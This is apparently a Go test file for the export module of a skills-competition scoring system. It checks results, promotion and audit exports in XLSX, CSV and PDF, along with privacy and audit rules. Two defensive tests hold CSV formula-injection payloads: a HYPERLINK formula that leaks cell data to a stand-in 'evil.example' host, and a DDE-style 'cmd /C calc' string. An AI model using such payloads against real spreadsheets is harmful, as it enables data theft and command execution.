package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"skillscore"
	"skillscore/certificates"
	"skillscore/demo"
	"skillscore/exports"
	"skillscore/idnumber"
	"skillscore/internal/testenv"
	"skillscore/results"
	"skillscore/scoring"
	"skillscore/store"
)

func demoEvent(t *testing.T) (*store.Store, store.Event) {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, "sqlite:"+filepath.Join(t.TempDir(), "x.db"), store.Options{Keys: testenv.Keys(t)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ev, err := demo.Create(ctx, st)
	if err != nil {
		t.Fatal(err)
	}
	return st, ev
}

func standings(t *testing.T, st *store.Store, ev store.Event) *results.Standings {
	t.Helper()
	snap, err := st.Snapshot(context.Background(), ev.ID)
	if err != nil {
		t.Fatal(err)
	}
	s, err := results.Compute(snap)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func readXLSX(t *testing.T, data []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestResultsXLSX reads the results workbook back and compares every row
// with results.Compute: codes only before publication, names after.
func TestResultsXLSX(t *testing.T) {
	ctx := context.Background()
	st, ev := demoEvent(t)
	// Publishing follows the results workflow: scored, signed off, decrypted.
	testenv.Decrypted(t, st, ev.ID)
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	want := standings(t, st, ev)
	for _, published := range []bool{false, true} {
		if published {
			if _, err := st.SetPublished(ctx, ev.ID, true, "test"); err != nil {
				t.Fatal(err)
			}
		}
		f, err := x.Build(ctx, ev, exports.ResultsXLSX, "tester")
		if err != nil {
			t.Fatal(err)
		}
		rows := readXLSX(t, f.Data)
		if len(rows) != exports.HeaderRow+len(want.Result.Contestants) {
			t.Fatalf("published=%v: %d rows, want %d", published, len(rows), exports.HeaderRow+len(want.Result.Contestants))
		}
		header := rows[exports.HeaderRow-1]
		if header[0] != "组别" || header[len(header)-4] != "总分" || header[len(header)-1] != "说明" {
			t.Fatalf("header %q", header)
		}
		nmod := len(want.Rules.Modules)
		promoted := 0
		for i, c := range want.Result.Contestants {
			row := rows[exports.HeaderRow+i]
			p := want.Contestants[c.ID]
			if row[exports.ColCode] != results.DisplayCode(p) {
				t.Errorf("row %d code %q, want %q", i, row[exports.ColCode], results.DisplayCode(p))
			}
			wantName, wantOrg := "", ""
			if published {
				wantName, wantOrg = p.Name, p.Organization
			}
			if got := cell(row, exports.ColName); got != wantName {
				t.Errorf("published=%v row %d name %q, want %q", published, i, got, wantName)
			}
			if got := cell(row, exports.ColOrganization); got != wantOrg {
				t.Errorf("published=%v row %d 单位 %q, want %q", published, i, got, wantOrg)
			}
			// A status shows instead of a score where there is none, and
			// in the award column with its reason (results/display.go).
			for j, m := range c.Modules {
				if got, want := cell(row, 5+j), results.ModuleText(m, results.Plain); got != want {
					t.Errorf("row %d module %s: %q, want %q", i, m.Code, got, want)
				}
			}
			if got, want := cell(row, 5+nmod), results.TotalText(c, results.Plain); got != want {
				t.Errorf("row %d total %q, want %q", i, got, want)
			}
			if got, want := cell(row, 6+nmod), results.AwardText(c); got != want {
				t.Errorf("row %d award %q, want %q", i, got, want)
			}
			if c.Promotion != nil {
				promoted++
				if got := cell(row, 7+nmod); got != c.Promotion.FromName+"→"+c.Promotion.ToName {
					t.Errorf("row %d promotion %q", i, got)
				}
			}
			if got := cell(row, 8+nmod); got != exports.ReasonsText(c) || got == "" {
				t.Errorf("row %d reasons %q, want %q", i, got, exports.ReasonsText(c))
			}
		}
		if promoted == 0 {
			t.Error("the demo event promotes nobody: the promotion column is untested")
		}
	}
}

func cell(row []string, i int) string {
	if i < len(row) {
		return row[i]
	}
	return ""
}

// TestPromotionsXLSX: refused before the final results, even when
// published, then the list matches the promotions results.Compute grants,
// with full ID numbers.
func TestPromotionsXLSX(t *testing.T) {
	ctx := context.Background()
	st, ev := demoEvent(t)
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	refused := func(step string) {
		t.Helper()
		_, err := x.Build(ctx, ev, exports.PromotionsXLSX, "tester")
		if skillscore.ErrorCode(err) != skillscore.EConflict || !strings.Contains(skillscore.ErrorMessage(err), "尚未最终确认") {
			t.Fatalf("%s: %v, want the workflow's refusal", step, err)
		}
	}
	refused("before decryption")
	testenv.Decrypted(t, st, ev.ID)
	if _, err := st.SetPublished(ctx, ev.ID, true, "test"); err != nil {
		t.Fatal(err)
	}
	refused("published, not final")
	end := time.Now().Add(-time.Second)
	if _, err := st.PublishResults(ctx, ev.ID, end.Add(-72*time.Hour), end, "test"); err != nil {
		t.Fatal(err)
	}
	if err := st.Finalize(ctx, ev.ID, "test"); err != nil {
		t.Fatal(err)
	}
	f, err := x.Build(ctx, ev, exports.PromotionsXLSX, "tester")
	if err != nil {
		t.Fatal(err)
	}
	rows := readXLSX(t, f.Data)
	want := standings(t, st, ev)
	var expect [][]string
	var promoted []int64
	for _, c := range want.Result.Contestants {
		if c.Promotion == nil {
			continue
		}
		p := []store.Contestant{want.Contestants[c.ID]}
		if err := st.OpenPersonal(p); err != nil {
			t.Fatal(err)
		}
		promoted = append(promoted, p[0].ID)
		expect = append(expect, []string{p[0].Name, p[0].IDNumber, ev.Occupation, c.Promotion.FromName, c.Promotion.ToName, exports.PromotionReason(c)})
	}
	if len(expect) == 0 {
		t.Fatal("nobody promoted in the demo event")
	}
	if got := strings.Join(rows[exports.HeaderRow-1], ","); got != "姓名,证件号码,职业/工种,原等级,晋升等级,依据" {
		t.Fatalf("header %s", got)
	}
	body := rows[exports.HeaderRow:]
	if len(body) != len(expect) {
		t.Fatalf("%d rows, want %d", len(body), len(expect))
	}
	for i := range expect {
		if !strings.HasPrefix(expect[i][2], ev.Occupation) || body[i][2] == "" {
			t.Errorf("row %d occupation %q", i, body[i][2])
		}
		expect[i][2] = body[i][2]
		if strings.Join(body[i], "|") != strings.Join(expect[i], "|") || expect[i][5] == "" {
			t.Errorf("row %d:\n got %q\nwant %q", i, body[i], expect[i])
		}
	}
	// A file with full 证件号码 is a full view: the trail says who took it
	// and whose numbers it holds, by contestant id only.
	trail, err := st.AuditTrail(ctx, ev.ID)
	if err != nil {
		t.Fatal(err)
	}
	last := trail[len(trail)-1]
	wantDetail, _ := json.Marshal(map[string]any{"contestants": promoted, "count": len(promoted), "reason": "导出晋升名单"})
	if last.Action != "personal.export" || last.Actor != "tester" || last.Subject != exports.PromotionsXLSX || last.Detail != string(wantDetail) {
		t.Errorf("last audit entry %+v, want personal.export by tester with %s", last, wantDetail)
	}
}

// TestAuditCSV: a BOM, then every audit entry in order, as stored.
func TestAuditCSV(t *testing.T) {
	ctx := context.Background()
	st, ev := demoEvent(t)
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	f, err := x.Build(ctx, ev, exports.AuditCSV, "tester")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(f.Data, []byte("\xef\xbb\xbf")) {
		t.Fatal("no UTF-8 BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(f.Data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	trail, err := st.AuditTrail(ctx, ev.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(trail) == 0 || len(recs) != len(trail)+1 {
		t.Fatalf("%d records for %d entries", len(recs), len(trail))
	}
	if strings.Join(recs[0], ",") != strings.Join(exports.AuditHeader, ",") {
		t.Fatalf("header %q", recs[0])
	}
	for i, e := range trail {
		r := recs[i+1]
		if r[2] != e.Actor || r[3] != e.Action || r[4] != e.Subject || r[5] != e.Detail || r[7] != e.Hash || r[1] != exports.AuditTime(e.At.Time) {
			t.Errorf("record %d %q does not match entry %+v", i, r, e)
		}
	}
}

// TestResultsPDF reads the PDF's text back with pdftotext: every code,
// total and award of results.Compute is there, and the signature lines.
func TestResultsPDF(t *testing.T) {
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Fatal("pdftotext is missing: run scripts/setup.sh (poppler-utils)")
	}
	ctx := context.Background()
	st, ev := demoEvent(t)
	testenv.Decrypted(t, st, ev.ID)
	if _, err := st.SetPublished(ctx, ev.ID, true, "test"); err != nil {
		t.Fatal(err)
	}
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	f, err := x.Build(ctx, ev, exports.ResultsPDF, "tester")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "r.pdf")
	if err := os.WriteFile(path, f.Data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdftotext", "-layout", path, "-").Output()
	if err != nil {
		t.Fatal(err)
	}
	text := string(out)
	for _, s := range []string{"裁判员（签字）", "裁判长（签字）", "监督员（签字）", "成绩汇总表", "第 1 页"} {
		if !strings.Contains(text, s) {
			t.Errorf("PDF lacks %q", s)
		}
	}
	want := standings(t, st, ev)
	lines := strings.Split(text, "\n")
	for _, c := range want.Result.Contestants {
		p := want.Contestants[c.ID]
		code := results.DisplayCode(p)
		// The row's first line holds its code, name, total and award.
		found := false
		for _, l := range lines {
			fields := strings.Fields(l)
			if !contains(fields, code) || strings.HasPrefix(fields[0], "注") { // a note of the annex
				continue
			}
			found = true
			award := c.AwardName
			if award == "" {
				award = c.StatusName
			}
			total := results.TotalText(c, func(d scoring.Decimal) string { return d.Format(want.Rules.Total.Rounding.Places) })
			for _, s := range []string{p.Name, total, award} {
				if s != "" && !contains(fields, s) {
					t.Errorf("%s: line %q lacks %q", code, l, s)
				}
			}
		}
		if !found {
			t.Errorf("PDF lacks contestant %s", code)
		}
	}
}

// TestResultsPDFDecimalsAndAnnex: the 成绩汇总表 PDF prints every score to
// the decimals the rule states (79.00 beside 90.79, not 79), moves long
// 说明 into an annex after the table with a numbered note in the row, and
// so holds at least 15 rows on a page with its signature lines.
func TestResultsPDFDecimalsAndAnnex(t *testing.T) {
	ctx := context.Background()
	st, ev := demoEvent(t)
	testenv.Decrypted(t, st, ev.ID)
	if _, err := st.SetPublished(ctx, ev.ID, true, "test"); err != nil {
		t.Fatal(err)
	}
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	f, err := x.Build(ctx, ev, exports.ResultsPDF, "tester")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "r.pdf")
	if err := os.WriteFile(path, f.Data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdftotext", "-layout", path, "-").Output()
	if err != nil {
		t.Fatal(err)
	}
	want := standings(t, st, ev)
	places := want.Rules.Total.Rounding.Places
	if places != 2 {
		t.Fatalf("the demo's total rounds to %d places; the test expects 2", places)
	}
	pages := strings.Split(string(out), "\f")
	groups := map[string]bool{}
	for _, c := range want.Result.Contestants {
		groups[c.GroupName] = true
	}
	// Rows per page: a table line starts with its group's name.
	rowsOn := make([]int, len(pages))
	for i, pg := range pages {
		for _, l := range strings.Split(pg, "\n") {
			if fs := strings.Fields(l); len(fs) > 0 && groups[fs[0]] {
				rowsOn[i]++
			}
		}
	}
	last := 0
	for i, n := range rowsOn {
		if n > 0 {
			last = i
		}
	}
	for i := 0; i < last; i++ {
		if rowsOn[i] < 15 {
			t.Errorf("page %d holds %d rows, want at least 15 (rows per page %v)", i+1, rowsOn[i], rowsOn)
		}
	}
	for i, pg := range pages {
		if strings.TrimSpace(pg) != "" && !strings.Contains(pg, "裁判长（签字）") {
			t.Errorf("page %d has no signature line", i+1)
		}
	}
	text := string(out)
	annex := strings.Index(text, "附：说明")
	if annex < 0 {
		t.Fatalf("the PDF has no annex of notes:\n%s", text)
	}
	// A note may run over a page break: the annex's text without the
	// signature lines, page numbers and headings of the pages it spans.
	var annexLines []string
	for _, l := range strings.Split(text[annex:], "\n") {
		if !strings.Contains(l, "（签字）") && !strings.Contains(l, "日期：") && !strings.Contains(l, "成绩汇总表") && !strings.Contains(l, "附：说明") {
			annexLines = append(annexLines, l)
		}
	}
	body := strings.Join(strings.Fields(strings.Join(annexLines, "\n")), "")
	lines := strings.Split(text[:annex], "\n")
	shortened, notes := 0, 0
	for _, c := range want.Result.Contestants {
		code := results.DisplayCode(want.Contestants[c.ID])
		var fields []string
		for _, l := range lines {
			if fs := strings.Fields(l); len(fs) > 2 && groups[fs[0]] && contains(fs, code) {
				fields = fs
			}
		}
		if fields == nil {
			t.Fatalf("no table row for %s", code)
		}
		format := func(d scoring.Decimal) string { return d.Format(places) }
		for _, m := range c.Modules {
			if want := results.ModuleText(m, format); !contains(fields, want) {
				t.Errorf("%s: %s printed as %v, want %s", code, m.Name, fields, want)
			}
			if m.Score.String() != m.Score.Format(places) {
				shortened++
			}
		}
		if want := results.TotalText(c, format); !contains(fields, want) {
			t.Errorf("%s: total %s not printed as %s: %v", code, c.Total, want, fields)
		}
		reasons := exports.ReasonsText(c)
		if len([]rune(reasons)) < 40 {
			continue
		}
		note := ""
		for _, fd := range fields {
			if strings.HasPrefix(fd, "注") {
				note = fd
			}
		}
		if note == "" {
			t.Errorf("%s: a long 说明 left in the row, no note: %v", code, fields)
			continue
		}
		notes++
		if !strings.Contains(body, note+code) || !strings.Contains(body, strings.Join(strings.Fields(reasons), "")) {
			t.Errorf("%s: the annex lacks %s with the whole 说明 %q", code, note, reasons)
		}
	}
	if shortened == 0 || notes == 0 {
		t.Fatalf("no score whose canonical form drops decimals (%d) or no long 说明 (%d): the test proves nothing", shortened, notes)
	}
}

func contains(fields []string, s string) bool {
	for _, f := range fields {
		if f == s {
			return true
		}
	}
	return false
}

// plainNumber is a cell that is wholly a decimal number: it is not a formula.
var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// TestAuditCSVNeutralisesFormulas: a roster file named like a formula lands
// in the audit trail; the CSV carries it as text (a leading '), as it does
// every cell starting with =, +, -, @, tab or CR, and the escape is undone
// by dropping that one quote.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	st, ev := demoEvent(t)
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"名单")`
	id, err := idnumber.Make("361102", time.Date(1990, 3, 1, 0, 0, 0, 0, time.UTC), 7)
	if err != nil {
		t.Fatal(err)
	}
	c := store.Contestant{Name: "注入测试", Gender: "男", IDType: "居民身份证", IDNumber: id,
		Organization: "上饶市养老服务中心", City: "上饶", GroupCode: "employee", Level: 4}
	if _, err := st.ImportRoster(ctx, store.RosterImport{EventID: ev.ID, FileName: evil, SHA256: strings.Repeat("ab", 32),
		Actor: "@organizer", Basis: store.BasisConsent}, []store.Contestant{c}, nil); err != nil {
		t.Fatal(err)
	}
	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
	f, err := x.Build(ctx, ev, exports.AuditCSV, "tester")
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(f.Data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if r[3] == "roster.import" {
			found = true
			if r[4] != "'"+evil || r[2] != "'@organizer" {
				t.Errorf("roster import row %q: want the file name and actor with a leading '", r)
			}
		}
	}
	if !found {
		t.Fatal("no roster.import row in the audit CSV")
	}
	for _, c := range []struct{ in, out string }{
		{"=1+1", "'=1+1"}, {"+A1", "'+A1"}, {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"'=1", "''=1"}, {"-5", "-5"}, {"+3.25", "+3.25"}, {"-", "'-"},
		{"-5e3", "'-5e3"}, {"张三", "张三"}, {"", ""}, {"a=b", "a=b"},
	} {
		if got := exports.CSVCell(c.in); got != c.out {
			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.out)
		}
	}
}

// TestXLSXCellsAreText: the .xlsx exports write every cell as a string, so a
// name like a formula is shown as typed and never evaluated.
func TestXLSXCellsAreText(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/","点我")`
	tbl := &exports.Table{Event: store.Event{Name: "注入测试赛"}, Header: []string{"姓名", "总分"}, Rows: [][]string{{evil, "-5"}, {"@SUM(A1)", "+1"}}}
	data, err := tbl.XLSX()
	if err != nil {
		t.Fatal(err)
	}
	xf, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer xf.Close()
	sheet := xf.GetSheetList()[0]
	for _, cell := range []string{"A3", "B3", "A4", "B4"} {
		if formula, err := xf.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("%s carries formula %q (%v)", cell, formula, err)
		}
		if typ, err := xf.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s has cell type %v, want a string (%v)", cell, typ, err)
		}
	}
	if v, _ := xf.GetCellValue(sheet, "A3"); v != evil {
		t.Errorf("A3 = %q, want the name as typed", v)
	}
	// The check above can fail: a cell set as a formula is seen as one.
	if err := xf.SetCellFormula(sheet, "C3", "1+1"); err != nil {
		t.Fatal(err)
	}
	if formula, _ := xf.GetCellFormula(sheet, "C3"); formula == "" {
		t.Fatal("GetCellFormula does not see a real formula: the check proves nothing")
	}
}
